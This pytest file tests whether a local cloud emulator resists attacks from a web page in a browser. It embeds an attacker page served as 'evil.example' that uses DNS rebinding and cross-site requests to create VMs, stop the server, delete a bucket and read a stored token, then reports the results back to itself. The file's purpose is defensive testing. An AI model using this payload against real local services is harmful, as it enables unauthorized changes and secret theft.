"""A web page in a real browser on the owner's machine: what it sends to the local cloud does
nothing, and it reads nothing.

The same page sends the same requests to a witness that answers everything, so that what the
browser itself holds back is distinguished from what the cloud refuses.
"""

import base64
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tests.browser import browser, needs_browser, served
from tests.localcloud.local_cloud import PROJECT, LocalCloud, make_bucket

pytestmark = [needs_browser, pytest.mark.timeout(400)]

PAGE_SEC = 150.0
EVIL = "evil.example"
RESOLVES_EVIL = f"--host-resolver-rules=MAP {EVIL} 127.0.0.1"
VMS = f"/compute/v1/projects/{PROJECT}/zones/europe-west4-a/instances"
SECRETS = f"/secretmanager/v1/projects/{PROJECT}/secrets"
SECRET = f"{SECRETS}/git/versions/latest:access"
VALUE = base64.b64encode(b"ghp_REALTOKEN").decode()

PAGE = """<!doctype html><title>page</title><body><script>
const targets = TARGETS, results = {};
const vm = name => JSON.stringify(VM).replace('NAME', name);
const note = async (name, promise) => {
  results[name] = await Promise.race([
    promise.then(text => `ok ${text ?? ''}`, error => `failed ${error}`),
    new Promise(done => setTimeout(() => done('late'), 20000)),
  ]);
};
const element = (kind, url) => new Promise((done, fail) => {
  const made = document.createElement(kind);
  made.onload = () => done('loaded'), made.onerror = () => fail('error');
  made.src = url, document.body.append(made);
});
const form = (url, name) => new Promise(done => {
  const frame = document.createElement('iframe');
  frame.name = name, document.body.append(frame);
  const form = document.createElement('form');
  [form.method, form.action, form.target, form.enctype] = ['post', url, name, 'text/plain'];
  const input = document.createElement('input');
  const [head, tail] = [vm(name).slice(0, -1) + ',"description":"', '"}'];
  [input.name, input.value] = [head, tail];
  form.append(input), document.body.append(form);
  frame.onload = () => frame.src || setTimeout(done, 300);
  form.submit(), setTimeout(done, 5000);
});
const socket = url => new Promise((done, fail) => {
  const made = new WebSocket(url);
  made.onopen = () => done('open'), made.onerror = () => fail('error');
});
(async () => {
  for (const [key, base] of Object.entries(targets)) {
    const post = (name, options) => note(`${key} ${name}`, fetch(`${base}VMS`, {
      method: 'POST', mode: 'no-cors', ...options }).then(answer => answer.type));
    await post('plain', { headers: { 'Content-Type': 'text/plain' }, body: vm(`${key}-plain`) });
    await post('blob', { body: new Blob([vm(`${key}-blob`)]) });
    await post('urlencoded', { body: new URLSearchParams({ a: vm(`${key}-urlencoded`) }) });
    await post('bytes', { body: new TextEncoder().encode(vm(`${key}-bytes`)) });
    await post('alive', { keepalive: true, body: vm(`${key}-alive`) });
    navigator.sendBeacon(`${base}VMS`, vm(`${key}-beacon`));
    await note(`${key} form`, form(`${base}VMS`, `${key}-form`));
    await note(`${key} json`, fetch(`${base}VMS`, { method: 'POST',
      headers: { 'Content-Type': 'application/json' }, body: vm(`${key}-json`) }));
    await note(`${key} reset`, fetch(`${base}/_local/reset`, { method: 'POST', mode: 'no-cors' }));
    await note(`${key} stop`, fetch(`${base}/_local/stop`, { method: 'POST', mode: 'no-cors' }));
    await note(`${key} delete`, fetch(`${base}/storage/v1/b/page-bucket`, { method: 'DELETE' }));
    await note(`${key} upload`, fetch(
      `${base}/upload/storage/v1/b/page-bucket/o?uploadType=media&name=page`,
      { method: 'POST', mode: 'no-cors', body: 'x' }));
    await note(`${key} read`, fetch(`${base}SECRET`).then(answer => answer.text()));
    await note(`${key} opaque`, fetch(`${base}SECRET`, { mode: 'no-cors' })
      .then(answer => answer.text()));
    await note(`${key} script`, element('script', `${base}SECRET?script`));
    await note(`${key} image`, element('img', `${base}/_local/audit?image`));
    await note(`${key} frame`, element('iframe', `${base}SECRET?frame`));
    await note(`${key} socket`, socket(`${base.replace('http', 'ws')}/_local/vms`));
  }
  await fetch('/done', { method: 'POST', body: JSON.stringify(results) });
})();
</script>"""


@dataclass
class Site:
    """The page's own server, and the witness on another port."""

    page: str = ""
    results: dict[str, str] = field(default_factory=dict)
    done: threading.Event = field(default_factory=threading.Event)
    seen: list[tuple[str, str, str]] = field(default_factory=list)
    """Method, path and body of what the witness got."""


@pytest.fixture
def cloud(tmp_path: Path) -> Iterator[LocalCloud]:
    """A cloud with a secret and a bucket, whose VMs have no processes."""
    (tmp_path / "image").mkdir()
    image = f"{PROJECT}/outlast={tmp_path / 'image'}"
    state = tmp_path / "state"
    serve = ("-m", "outlast.localcloud", "serve", "--state", str(state), "--image", image)
    made = LocalCloud(state, *serve, "--no-provider", "--no-guests")
    automatic = {"replication": {"automatic": {}}}
    assert made.call("POST", SECRETS, params={"secretId": "git"}, json=automatic).ok
    payload = {"payload": {"data": VALUE}}
    assert made.call("POST", f"{SECRETS}/git:addVersion", json=payload).ok
    make_bucket(made, name="page-bucket")
    yield made
    made.stop()
    made.http.close()


def vm_body(name: str) -> dict[str, Any]:
    image = f"projects/{PROJECT}/global/images/family/outlast"
    return {
        "name": name,
        "machineType": "zones/europe-west4-a/machineTypes/e2-small",
        "disks": [{"boot": True, "initializeParams": {"sourceImage": image}}],
        "networkInterfaces": [{"network": "global/networks/default"}],
    }


def visit(tmp_path: Path, targets: dict[str, str]) -> Site:
    """Opens the attacker's page, which sends its requests to each target and to the witness."""
    site = Site()

    def page(method: str, path: str, body: str) -> tuple[str, bytes]:
        if path == "/done" and method == "POST":
            site.results = json.loads(body)
            site.done.set()
        return "text/html", site.page.encode() if path == "/" else b"{}"

    def witness(method: str, path: str, body: str) -> tuple[str, bytes]:
        site.seen.append((method, path, body))
        return ("text/javascript", b"0") if "script" in path else ("application/json", b"{}")

    with served(page) as page_port, served(witness) as witness_port:
        targets = {**targets, "witness": f"http://127.0.0.1:{witness_port}"}
        site.page = (
            PAGE.replace("TARGETS", json.dumps(targets))
            .replace("JSON.stringify(VM)", f"JSON.stringify({json.dumps(vm_body('NAME'))})")
            .replace("VMS", VMS)
            .replace("SECRET", SECRET)
        )
        with browser(tmp_path / "profile", RESOLVES_EVIL, f"http://{EVIL}:{page_port}/"):
            assert site.done.wait(PAGE_SEC), f"the page did not come to its end: {site.seen}"
    return site


def test_a_web_page_changes_nothing_and_reads_nothing(cloud: LocalCloud, tmp_path: Path) -> None:
    port = cloud.url.rpartition(":")[2]
    names = {"number": "127.0.0.1", "name": "localhost", "rebound": EVIL}
    site = visit(tmp_path, {key: f"http://{host}:{port}" for key, host in names.items()})

    # The browser does send them: all of it has reached a server that takes it.
    bodies = "".join(body for method, path, body in site.seen if (method, path) == ("POST", VMS))
    for kind in ("plain", "blob", "bytes", "alive", "beacon", "form", "json"):
        assert f'"witness-{kind}"' in bodies, (kind, site.seen)
    called = {(method, path.partition("?")[0]) for method, path, _ in site.seen}
    assert {("GET", SECRET), ("POST", "/_local/stop"), ("GET", "/_local/audit")} <= called
    assert ("DELETE", "/storage/v1/b/page-bucket") in called
    assert site.results["witness read"] == "ok {}" and site.results["witness json"].startswith("ok")

    # The cloud runs, and holds what it held.
    assert cloud.process.poll() is None
    audit = cloud.call("GET", "/_local/audit").json()
    assert audit["vms"] == [] and audit["secrets"]
    assert audit["buckets"] == [{"name": "page-bucket", "objects": 0, "versions": 0}]
    for key in names:
        for what in ("read", "json", "delete", "script", "image", "socket"):
            assert site.results[f"{key} {what}"].startswith("failed"), (key, what, site.results)
    assert VALUE not in json.dumps(site.results)

    # The same VM, asked for by the owner's client, is made.
    assert cloud.call("POST", VMS, json=vm_body("owner")).ok
    assert cloud.call("GET", "/_local/audit").json()["vms"] == ["owner"]


@pytest.mark.parametrize("path", [SECRET, "/_local/audit", f"/storage/v1/b?project={PROJECT}"])
def test_a_rebound_name_reads_nothing(cloud: LocalCloud, tmp_path: Path, path: str) -> None:
    """A page's own name that leads to the cloud: for the browser the answer is the page's own."""
    port = cloud.url.rpartition(":")[2]
    shown = {}
    for host in (EVIL, "127.0.0.1"):
        url = f"http://{host}:{port}{path}"
        with browser(tmp_path / host, RESOLVES_EVIL, "--dump-dom", url) as process:
            shown[host] = process.communicate(timeout=PAGE_SEC)[0]
    assert "must be 127.0.0.1:" in shown[EVIL] and f"{EVIL}:{port}" in shown[EVIL]
    assert VALUE not in shown[EVIL] and "page-bucket" not in shown[EVIL]
    # A person who types the cloud's own address sees the answer.
    assert VALUE in shown["127.0.0.1"] or "page-bucket" in shown["127.0.0.1"]
